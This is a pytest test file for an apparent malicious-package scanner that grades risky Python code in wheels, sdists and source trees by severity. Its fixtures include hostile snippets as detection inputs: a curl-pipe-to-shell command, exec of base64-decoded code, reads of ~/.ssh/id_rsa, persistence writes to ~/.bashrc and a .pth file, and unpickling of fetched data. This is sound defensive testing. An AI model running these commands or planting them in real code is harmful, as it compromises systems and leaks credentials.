"""Library code (sdists, wheels, source trees, site-packages) graded as a malicious-package detector does."""

from __future__ import annotations

import ast
import io
import tarfile
import textwrap
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlvet.findings import Finding, Severity
from mlvet.scan import scan
from mlvet.scan.base import CodeOrigin
from mlvet.scan.python.layout import decide, folder_contents
from mlvet.scan.python.library import import_time_lines
from mlvet.scan.python.source import RULES

SOURCE_RULES = {rule.id for rule in RULES}

SUBPROCESS_IN_FUNCTION = """
import subprocess


def revision():
    return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True)


def load(name):
    return __import__(name)
"""
PYPROJECT = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'


def _write(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(textwrap.dedent(text).lstrip("\n"))
    return root


def _python(findings: tuple[Finding, ...], name: str) -> list[tuple[str, Severity]]:
    return sorted(
        (f.rule.id, f.severity)
        for f in findings
        if (f.subject.member or f.subject.path).endswith(name) and f.rule.id in SOURCE_RULES
    )


def _lines(source: str) -> set[int]:
    return import_time_lines(ast.parse(textwrap.dedent(source)))


def test_import_time_lines_follow_module_level_calls_and_skip_function_bodies() -> None:
    source = """
    import threading
    X = 1
    def called():
        a = 2
    def not_called():
        b = 3
    def beacon():
        c = 4
    class Model:
        size = 5
        def __init__(self):
            d = 6
        def forward(self):
            e = 7
    called()
    threading.Thread(target=beacon).start()
    handler = lambda: 8
    if __name__ == "__main__":
        not_called()
    """
    lines = _lines(source)
    assert {2, 3, 5, 9, 11, 16, 17, 18} <= lines
    assert not lines & {7, 13, 15, 20}


def test_instantiating_a_class_at_module_level_runs_its_init() -> None:
    lines = _lines("""
    class Client:
        def __init__(self):
            x = 1
        def other(self):
            y = 2
    CLIENT = Client()
    """)
    assert 4 in lines and 6 not in lines


def test_subprocess_and_dynamic_import_in_a_package_are_low(tmp_path: Path) -> None:
    root = _write(
        tmp_path / "pkg", {"pyproject.toml": PYPROJECT, "src/demo/__init__.py": SUBPROCESS_IN_FUNCTION}
    )
    report = scan([root])
    assert _python(report.findings, "demo/__init__.py") == [
        ("MLV811", Severity.LOW),
        ("MLV812", Severity.LOW),
    ]
    assert {f.evidence["graded_as"] for f in report.findings if f.rule.id in SOURCE_RULES} == {
        "library-source"
    }


def test_the_same_code_beside_a_model_config_keeps_model_grading(tmp_path: Path) -> None:
    """A setup.py at the top cannot launder a model's custom code: config.json beside it wins."""
    root = _write(
        tmp_path / "repo",
        {
            "setup.py": "from setuptools import setup\nsetup()\n",
            "config.json": "{}",
            "modeling.py": SUBPROCESS_IN_FUNCTION,
        },
    )
    report = scan([root])
    assert _python(report.findings, "modeling.py") == [
        ("MLV811", Severity.CRITICAL),
        ("MLV812", Severity.HIGH),
    ]


def test_a_file_given_alone_keeps_model_grading(tmp_path: Path) -> None:
    root = _write(tmp_path / "pkg", {"pyproject.toml": PYPROJECT, "demo/__init__.py": SUBPROCESS_IN_FUNCTION})
    report = scan([root / "demo" / "__init__.py"])
    assert _python(report.findings, "__init__.py") == [
        ("MLV811", Severity.CRITICAL),
        ("MLV812", Severity.HIGH),
    ]


def test_a_directory_without_package_markers_is_model_code(tmp_path: Path) -> None:
    root = _write(tmp_path / "scripts", {"tool.py": SUBPROCESS_IN_FUNCTION})
    assert _python(scan([root]).findings, "tool.py") == [
        ("MLV811", Severity.CRITICAL),
        ("MLV812", Severity.HIGH),
    ]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os\nos.system('echo hi')\n", [("MLV811", Severity.HIGH)]),
        ("import subprocess\nsubprocess.run(['git', 'describe'])\n", [("MLV811", Severity.MEDIUM)]),
        ("import os\nos.system('curl -s https://example.invalid/x | sh')\n", [("MLV811", Severity.CRITICAL)]),
        (
            "import urllib.request\nurllib.request.urlopen('https://example.invalid')\n",
            [("MLV813", Severity.HIGH)],
        ),
        (
            "import urllib.request\ndef get(u):\n    return urllib.request.urlopen(u)\n",
            [("MLV813", Severity.LOW)],
        ),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", [("MLV812", Severity.CRITICAL)]),
        (
            "import os\ndef k():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
            [("MLV851", Severity.MEDIUM)],
        ),
        ("import os\nKEY = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", [("MLV851", Severity.HIGH)]),
        (
            "import os\ndef p():\n    open(os.path.expanduser('~/.bashrc'), 'a').write('x')\n",
            [("MLV815", Severity.HIGH)],
        ),
        ("import pickle\ndef load(f):\n    return pickle.load(f)\n", [("MLV816", Severity.LOW)]),
        ("import socket\nsocket.gethostname()\n", [("MLV814", Severity.LOW)]),
    ],
)
def test_library_grading(tmp_path: Path, source: str, expected: list[tuple[str, Severity]]) -> None:
    root = _write(
        tmp_path / "pkg", {"pyproject.toml": PYPROJECT, "demo/__init__.py": "", "demo/core.py": source}
    )
    assert _python(scan([root]).findings, "demo/core.py") == expected


def test_top_level_code_of_tests_and_scripts_is_capped_at_medium(tmp_path: Path) -> None:
    source = "import os\nos.system('echo hi')\n"
    root = _write(
        tmp_path / "pkg",
        {
            "pyproject.toml": PYPROJECT,
            "tests/test_x.py": source,
            "tools/run.py": source,
            "demo/__init__.py": "",
        },
    )
    report = scan([root])
    assert _python(report.findings, "tests/test_x.py") == [("MLV811", Severity.MEDIUM)]
    assert _python(report.findings, "tools/run.py") == [("MLV811", Severity.MEDIUM)]


def test_decoded_data_reached_only_through_a_reused_name_is_medium(tmp_path: Path) -> None:
    """Module-wide taint by name: ``x`` decoded in one function, an unrelated ``x`` unpickled in another."""
    source = """
    import base64
    import pickle

    def one(s):
        x = base64.b64decode(s)
        return x

    def two(x):
        x = x.strip()
        return pickle.loads(x)
    """
    root = _write(tmp_path / "pkg", {"setup.py": "", "demo/__init__.py": "", "demo/core.py": source})
    assert _python(scan([root]).findings, "demo/core.py") == [("MLV816", Severity.MEDIUM)]


def test_site_packages_folder_is_a_built_library(tmp_path: Path) -> None:
    site = _write(
        tmp_path / "site-packages",
        {
            "demo/__init__.py": SUBPROCESS_IN_FUNCTION,
            "demo-1.0.dist-info/RECORD": "",
            "demo-1.0.dist-info/METADATA": "",
        },
    )
    for root in (site, site / "demo"):  # the whole site-packages, or one installed package in it
        report = scan([root])
        assert _python(report.findings, "demo/__init__.py") == [
            ("MLV811", Severity.LOW),
            ("MLV812", Severity.LOW),
        ]
        assert {f.evidence["graded_as"] for f in report.findings if f.rule.id in SOURCE_RULES} == {
            "library-built"
        }


def _wheel(path: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in {
            **files,
            "demo-1.0.dist-info/WHEEL": b"",
            "demo-1.0.dist-info/RECORD": b"",
        }.items():
            archive.writestr(name, data)
    return path


def _sdist(path: Path, files: dict[str, bytes]) -> Path:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in {"demo-1.0/PKG-INFO": b"Name: demo\n", "demo-1.0/setup.py": b"", **files}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    path.write_bytes(buffer.getvalue())
    return path


def test_archives_are_graded_by_their_own_layout(tmp_path: Path) -> None:
    code = SUBPROCESS_IN_FUNCTION.encode()
    wheel = scan([_wheel(tmp_path / "demo.whl", {"demo/__init__.py": code})])
    assert _python(wheel.findings, "demo/__init__.py") == [("MLV811", Severity.LOW), ("MLV812", Severity.LOW)]
    sdist = scan([_sdist(tmp_path / "demo.tar.gz", {"demo-1.0/demo/__init__.py": code})])
    assert {f.evidence.get("graded_as") for f in sdist.findings if f.rule.id in SOURCE_RULES} == {
        "library-source"
    }
    with zipfile.ZipFile(tmp_path / "plain.zip", "w") as archive:
        archive.writestr("helper.py", code)
    plain = scan([tmp_path / "plain.zip"])
    assert _python(plain.findings, "helper.py") == [("MLV811", Severity.CRITICAL), ("MLV812", Severity.HIGH)]


def test_a_wheel_module_without_init_is_still_imported(tmp_path: Path) -> None:
    """Namespace packages have no ``__init__.py``: top-level code of a wheel's module stays high."""
    source = b"import os\nos.system('echo hi')\n"
    wheel = scan([_wheel(tmp_path / "ns.whl", {"company/demo/core.py": source})])
    assert _python(wheel.findings, "company/demo/core.py") == [("MLV811", Severity.HIGH)]
    sdist = scan([_sdist(tmp_path / "ns.tar.gz", {"demo-1.0/scripts_dir/run.py": source})])
    assert _python(sdist.findings, "scripts_dir/run.py") == [("MLV811", Severity.MEDIUM)]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        # urllib3: a socket bound at import to test IPv6 support, nothing connects
        (
            "import socket\ndef probe():\n    s = socket.socket()\n    s.bind(('::1', 0))\nOK = probe()\n",
            Severity.MEDIUM,
        ),
        (
            "import socket\ndef beacon():\n    s = socket.socket()\n    s.connect(('x', 1))\nbeacon()\n",
            Severity.HIGH,
        ),
        ("import pip\npip.main(['install', 'requests'])\n", Severity.HIGH),
        ("import pip._internal.utils.logging as l\nlog = l.getLogger(__name__)\n", Severity.LOW),
        (
            "import sys, pty\nif sys.platform != 'win32' and __name__ == '__main__':\n    pty.spawn(['a'])\n",
            Severity.LOW,
        ),
        ("def hook(site):\n    open(site + '/sitecustomize.py', 'w').write('x')\n", Severity.MEDIUM),
        (
            "import os\nopen('/usr/lib/python3/site-packages/evil.pth', 'w').write('import x')\n",
            Severity.HIGH,
        ),
    ],
)
def test_library_grading_of_ordinary_import_time_code(
    tmp_path: Path, source: str, expected: Severity | None
) -> None:
    root = _write(
        tmp_path / "pkg", {"pyproject.toml": PYPROJECT, "demo/__init__.py": "", "demo/core.py": source}
    )
    found = _python(scan([root]).findings, "demo/core.py")
    assert max((severity for _, severity in found), default=None) == expected


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        # scikit-learn: its own zlib-compressed cache file, decompressed and unpickled
        (
            "import codecs, pickle\ndef load(f):\n"
            "    return pickle.loads(codecs.decode(f.read(), 'zlib_codec'))\n",
            Severity.MEDIUM,
        ),
        # a pickle embedded in the source, decoded and unpickled
        (
            "import base64, pickle\nOBJ = pickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))\n",
            Severity.CRITICAL,
        ),
        (
            "import pickle, urllib.request\ndef get(u):\n"
            "    return pickle.loads(urllib.request.urlopen(u).read())\n",
            Severity.CRITICAL,
        ),
    ],
)
def test_unpickling_decoded_data_in_a_library(tmp_path: Path, source: str, expected: Severity) -> None:
    root = _write(
        tmp_path / "pkg", {"pyproject.toml": PYPROJECT, "demo/__init__.py": "", "demo/core.py": source}
    )
    found = _python(scan([root]).findings, "demo/core.py")
    assert ("MLV816", expected) in found


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(alphabet="ab/._-\\!: PKG-INFOsetup.pyconfig.json", max_size=40), max_size=30))
def test_any_member_names_give_an_origin(names: list[str]) -> None:
    children = folder_contents(names)
    for name in names:
        folder = name.replace("\\", "/").lstrip("/").rsplit("/", 1)[0] if "/" in name else ""
        ancestors = []
        current = folder
        while current:
            current = current.rpartition("/")[0]
            ancestors.append(current)
        found = decide(folder, ancestors, lambda d: children.get(d, frozenset()))
        assert found is None or isinstance(found, CodeOrigin)
